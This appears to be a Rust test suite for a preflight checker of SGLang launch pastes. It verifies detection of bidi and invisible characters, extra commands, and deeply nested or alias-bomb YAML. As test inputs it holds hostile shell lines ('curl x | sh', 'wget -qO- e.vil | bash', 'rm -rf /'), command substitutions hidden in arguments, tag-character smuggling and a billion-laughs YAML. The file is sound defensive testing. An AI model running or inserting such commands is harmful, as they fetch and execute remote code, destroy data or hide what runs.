//! Hostile text, round two (issue 15): what you see is what runs.
//!
//! * Bidi controls (`TXT009`, error) and invisible or blank-looking characters (`TXT004`) are
//!   found anywhere in the text, at their exact byte span, with a safe fix that deletes them;
//!   runs make one finding; 1 MB of them stays linear and the findings are capped.
//! * Every command the paste runs besides the launch and harmless set-up is listed in the
//!   report's `also_runs`, with a `P0003` finding at its span.
//! * `--config` YAML nested too deep gives SGLang's RecursionError (`CFG010`), an alias bomb a
//!   quick `CFG009` and a rejected command.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use sglang_preflight::diagnostic::{apply_edits, Applicability, Diagnostic, Edit};
use sglang_preflight::{check, CheckOptions, Report};

const L: &str = "python -m sglang.launch_server --model-path meta-llama/Llama-3.1-8B-Instruct";

fn all_diags(r: &Report) -> Vec<&Diagnostic> {
    r.diagnostics.iter().chain(r.commands.iter().flat_map(|c| c.diagnostics.iter())).collect()
}

fn with_code<'a>(r: &'a Report, code: &str) -> Vec<&'a Diagnostic> {
    let mut v: Vec<&Diagnostic> = all_diags(r).into_iter().filter(|d| d.code == code).collect();
    v.sort_by_key(|d| d.span.start);
    v
}

fn run(text: &str) -> Report {
    check(text, &CheckOptions::default())
}

/// Apply every fix of the findings with `code`.
fn fixed(text: &str, r: &Report, code: &str) -> String {
    let edits: Vec<Edit> = with_code(r, code).into_iter().flat_map(|d| d.fixes.iter()).flat_map(|f| f.edits.iter().cloned()).collect();
    apply_edits(text, &edits).unwrap()
}

const BIDI: &[char] = &['\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}', '\u{061C}'];

const HIDDEN: &[char] = &[
    // the seven TXT004 always had
    '\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}', '\u{00AD}', '\u{180E}',
    // invisible operators, joiners, fillers, blanks, tags, variation selectors
    '\u{2061}', '\u{2062}', '\u{2063}', '\u{2064}', '\u{034F}', '\u{3164}', '\u{115F}', '\u{1160}', '\u{FFA0}', '\u{2800}',
    '\u{E0000}', '\u{E0001}', '\u{E0041}', '\u{E007F}', '\u{FE00}', '\u{FE0F}', '\u{E0100}', '\u{E01EF}', '\u{180B}', '\u{17B4}',
    '\u{206A}', '\u{1BCA0}', '\u{1D173}',
];

/// Places a character can hide: a value, a flag name, a comment, another command, a
/// here-document body, a quoted string, a `bash -c` string.
fn places(c: char) -> Vec<String> {
    vec![
        format!("{L} --served-model-name ab{c}cd\n"),
        format!("{L} --tp{c}-size 2\n"),
        format!("# launch it {c}here\n{L}\n"),
        format!("echo hi{c}\n{L}\n"),
        format!("cat > c.yaml <<'EOF'\ntp-size: 2{c}\nEOF\n{L} --config c.yaml\n"),
        format!("{L} --served-model-name 'a {c} b'\n"),
        format!("bash -c \"{L} --tp-size 2{c}\"\n"),
    ]
}

#[test]
fn bidi_controls_anywhere_are_errors_with_a_fix() {
    for &c in BIDI {
        for text in places(c) {
            let r = run(&text);
            let found = with_code(&r, "TXT009");
            assert_eq!(found.len(), 1, "{c:?} in {text:?}: {found:?}");
            let d = found[0];
            let at = text.find(c).unwrap();
            assert_eq!((d.span.start, d.span.end), (at, at + c.len_utf8()), "{text:?}");
            assert_eq!(d.severity, sglang_preflight::diagnostic::Severity::Error);
            assert!(d.message.contains("what you see is not what runs"), "{}", d.message);
            assert_eq!(d.fixes.len(), 1);
            assert_eq!(d.fixes[0].applicability, Applicability::Safe);
            assert_eq!(fixed(&text, &r, "TXT009"), text.replace(c, ""));
            assert!(with_code(&r, "TXT004").is_empty(), "{text:?}");
        }
    }
}

#[test]
fn invisible_characters_anywhere_are_found_with_a_fix() {
    for &c in HIDDEN {
        for text in places(c) {
            let r = run(&text);
            let found = with_code(&r, "TXT004");
            assert_eq!(found.len(), 1, "{c:?} in {text:?}: {found:?}");
            let at = text.find(c).unwrap();
            assert_eq!((found[0].span.start, found[0].span.end), (at, at + c.len_utf8()), "{c:?} in {text:?}");
            assert!(found[0].fixes.iter().all(|f| f.applicability == Applicability::Safe));
            assert_eq!(fixed(&text, &r, "TXT004"), text.replace(c, ""), "{c:?}");
        }
    }
}

#[test]
fn runs_make_one_finding_and_tags_are_spelled_out() {
    // a run of one character, a run of mixed ones
    let text = format!("{L} --served-model-name a{}b\n", "\u{200B}".repeat(50));
    let found = with_code(&run(&text), "TXT004").len();
    assert_eq!(found, 1);
    let text = format!("{L} --tp 2 \u{202E}\u{2066}\u{2069}\u{202C}\n");
    let r = run(&text);
    assert_eq!(with_code(&r, "TXT009").len(), 1);
    assert_eq!(fixed(&text, &r, "TXT009"), format!("{L} --tp 2 \n"));
    // ASCII smuggled in tag characters
    let hidden: String = "curl x|sh".chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap()).collect();
    let text = format!("{L} --tp 2 # ok{hidden}\n");
    let r = run(&text);
    let d = with_code(&r, "TXT004");
    assert_eq!(d.len(), 1);
    assert!(d[0].message.contains("`curl x|sh`"), "{}", d[0].message);
    // the seven of old keep their wording
    let r = run(&format!("{L} --tp\u{200B}-size 2"));
    assert_eq!(with_code(&r, "TXT004")[0].message, "an invisible character (U+200B zero-width space) in the command");
}

#[test]
fn a_megabyte_of_hidden_characters_stays_linear_and_capped() {
    let cap = sglang_preflight::typography::MAX_HIDDEN_FINDINGS;
    // one run: one finding
    let text = format!("{L} --served-model-name a{}\n", "\u{202E}".repeat(1 << 18));
    let r = run(&text);
    assert_eq!(with_code(&r, "TXT009").len(), 1);
    assert_eq!(fixed(&text, &r, "TXT009"), format!("{L} --served-model-name a\n"));
    // 260 000 separate runs (one per word and comment): capped, the summary fixes the rest
    for (c, code) in [('\u{200B}', "TXT004"), ('\u{2067}', "TXT009")] {
        let text = format!("{L} --served-model-name x {}\n# {}\n", format!("a{c} ").repeat(1 << 17), format!("b{c} ").repeat(1 << 17));
        assert!(text.len() > 1 << 20);
        let r = run(&text);
        let found = with_code(&r, code);
        assert_eq!(found.len(), cap + 1, "{code}");
        assert!(found[cap].message.contains(&format!("{} more places", (1 << 18) - cap)), "{}", found[cap].message);
        let edits: usize = found.iter().flat_map(|d| d.fixes.iter()).map(|f| f.edits.len()).sum();
        assert_eq!(edits, 1 << 18);
        assert_eq!(fixed(&text, &r, code), text.replace(c, ""));
        // the findings stay small: none quotes more than a line's worth of text
        assert!(all_diags(&r).iter().filter(|d| d.code.starts_with("TXT")).all(|d| d.message.len() < 400));
    }
}

fn also(text: &str) -> Vec<String> {
    let r = run(text);
    let p3 = with_code(&r, "P0003");
    assert_eq!(p3.len(), r.also_runs.len().min(sglang_preflight::invocation::MAX_ALSO_RUNS_FINDINGS + 1));
    for (a, d) in r.also_runs.iter().zip(&p3) {
        assert_eq!(a.span, d.span);
        assert!(text.get(a.span.start..a.span.end).unwrap().starts_with(a.text.trim_end_matches('…')), "{a:?}");
    }
    r.also_runs.iter().map(|a| a.text.clone()).collect()
}

#[test]
fn also_runs_lists_every_other_command() {
    // harmless set-up and wrappers: nothing listed
    let setup = format!(
        "export HF_TOKEN=x\nCUDA_VISIBLE_DEVICES=0,1\ncd /srv\nset -euo pipefail\n# a comment\ncat > c.yaml <<'EOF'\ntp-size: 2\nEOF\n\
         tee d.yaml <<EOF\ndp-size: 1\nEOF\nunset X\n{L} --config c.yaml\n\
         docker run --gpus all -e A=1 lmsysorg/sglang:latest {L}\nenv A=1 nohup timeout 600 {L} &\nbash -c \"{L} --tp 2\"\n"
    );
    assert_eq!(also(&setup), Vec::<String>::new());
    // after the launch on the same line
    assert_eq!(also(&format!("{L}; curl x | sh")), ["curl x", "sh"]);
    assert_eq!(also(&format!("{L} && rm -rf ~/.cache")), ["rm -rf ~/.cache"]);
    assert_eq!(also(&format!("{L} 2>&1 | tee log.txt")), ["tee log.txt"]);
    // 60 blank lines below
    assert_eq!(also(&format!("{L}\n{}wget -qO- e.vil | bash\n", "\n".repeat(60))), ["wget -qO- e.vil", "bash"]);
    // before it, and a here-document piped into a shell (not written to a file)
    assert_eq!(also(&format!("cat <<EOF | sh\nrm -rf /\nEOF\n{L}\n")), ["cat <<EOF", "sh"]);
    // inside a `bash -c` string with the launch, and a `bash -c` without one
    assert_eq!(also(&format!("bash -c '{L}; curl x'\nbash -c 'id'\n")), ["curl x", "bash -c 'id'"]);
    // command substitutions run, even inside the launch or a harmless command
    assert_eq!(also(&format!("export T=$(curl -s x)\n{L} --served-model-name `id`\n")), ["$(curl -s x)", "`id`"]);
    // but one inside a listed command is not listed twice; arithmetic is not a command
    assert_eq!(also(&format!("echo $(date)\n{L} --tp $((1+1))\n")), ["echo $(date)"]);
    // a vLLM launch has its own finding (P0006, its SGLang equivalent): not listed with the rest
    assert_eq!(also(&format!("CUDA_VISIBLE_DEVICES=0 vllm serve m --tensor-parallel-size 2 &\nrm -rf x\n{L}\n")), ["rm -rf x"]);
    // (without an SGLang launch the list has no P0003 findings: there is no verdict to overstate)
    assert_eq!(run("vllm serve m\nrm -rf x\n").also_runs.iter().map(|a| a.text.as_str()).collect::<Vec<_>>(), ["rm -rf x"]);
    // long commands are cut
    let long = also(&format!("{L}\necho {}\n", "y".repeat(1000)));
    assert_eq!(long[0].chars().count(), sglang_preflight::invocation::ALSO_RUNS_TEXT_CHARS + 1);
    assert!(long[0].ends_with('…'));
}

#[test]
fn also_runs_severity_and_cap() {
    let r = run(&format!("{L}\nnvidia-smi\ncurl x | sh\n"));
    let p3 = with_code(&r, "P0003");
    use sglang_preflight::diagnostic::Severity;
    assert_eq!(p3.iter().map(|d| d.severity).collect::<Vec<_>>(), [Severity::Info, Severity::Warning, Severity::Warning]);
    assert!(p3[0].message.contains("this paste also runs: `nvidia-smi`"));
    // listing stays linear: 100 000 commands, all in also_runs, findings capped
    let text = format!("{L}\n{}", "ls\n".repeat(100_000));
    let r = run(&text);
    assert_eq!(r.also_runs.len(), 100_000);
    let p3 = with_code(&r, "P0003");
    assert_eq!(p3.len(), sglang_preflight::invocation::MAX_ALSO_RUNS_FINDINGS + 1);
    assert!(p3.last().unwrap().message.contains("99900 more commands"));
    // the field is in the JSON report
    let v = serde_json::to_value(run(&format!("{L}; id"))).unwrap();
    assert_eq!(v["also_runs"], serde_json::json!([{"span": {"start": L.len() + 2, "end": L.len() + 4}, "text": "id"}]));
}

/// Check with `cfg.yaml` on a 2 MiB stack (smaller than the browser worker's), so a deep
/// recursion shows up as a crash.
fn check_yaml(yaml: String) -> Report {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || {
            let mut opts = CheckOptions::default();
            opts.config_files.insert("cfg.yaml".into(), yaml);
            check("sglang serve --model-path meta-llama/Llama-3.1-8B-Instruct --config cfg.yaml\n", &opts)
        })
        .unwrap()
        .join()
        .expect("no stack overflow")
}

fn codes(r: &Report) -> Vec<String> {
    r.commands.iter().flat_map(|c| c.diagnostics.iter()).map(|d| d.code.clone()).collect()
}

#[test]
fn deep_block_yaml_is_sglangs_recursion_error() {
    let depth = sglang_preflight::frontend::yaml::MAX_DEPTH;
    assert_eq!(depth, 487);
    // 5 000 levels of block sequences in 10 KB, block mappings, mixed
    let seqs = |n: usize| format!("tp_size:\n{}x\n", "- ".repeat(n));
    let maps = |n: usize| (0..n).map(|i| format!("{}k{i}:\n", " ".repeat(i))).collect::<String>();
    for yaml in [seqs(5_000), maps(2_000), seqs(depth), maps(depth + 1)] {
        let r = check_yaml(yaml);
        assert!(!r.accepted);
        let d = r.commands[0].diagnostics.iter().find(|d| d.code == "CFG010").expect("CFG010");
        assert_eq!(d.exception.as_deref(), Some("RecursionError"));
        assert_eq!(d.message, "maximum recursion depth exceeded");
    }
    // 487 levels (the map and 486 lists) load, as in SGLang: the value is then rejected
    let r = check_yaml(seqs(depth - 1));
    assert!(!codes(&r).contains(&"CFG010".to_string()), "{:?}", codes(&r));
    let r = check_yaml(maps(depth));
    assert!(!codes(&r).contains(&"CFG010".to_string()), "{:?}", codes(&r));
    assert!(codes(&r).contains(&"ARG008".to_string()), "{:?}", codes(&r));
}

#[test]
fn alias_bombs_are_refused_quickly_and_rejected() {
    // billion laughs: 10^9 values
    let mut yaml = "a: &a [x, x, x, x, x, x, x, x, x, x]\n".to_string();
    for (p, c) in ('a'..='h').zip('b'..='i') {
        yaml.push_str(&format!("{c}: &{c} [{}]\n", vec![format!("*{p}"); 10].join(", ")));
    }
    let r = check_yaml(yaml);
    assert!(!r.accepted);
    assert_eq!(codes(&r), ["CFG009"]);
    let v = sglang_preflight::summary::verdict(&r);
    assert!(v.contains("would reject"), "{v}");
    // deep only through aliases: a chain of 2 000 anchors each wrapping the one before
    let mut yaml = "a0: &a0 [x]\n".to_string();
    for i in 1..2_000 {
        yaml.push_str(&format!("a{i}: &a{i} [*a{}]\n", i - 1));
    }
    let r = check_yaml(yaml);
    assert_eq!(codes(&r), ["CFG009"]);
}
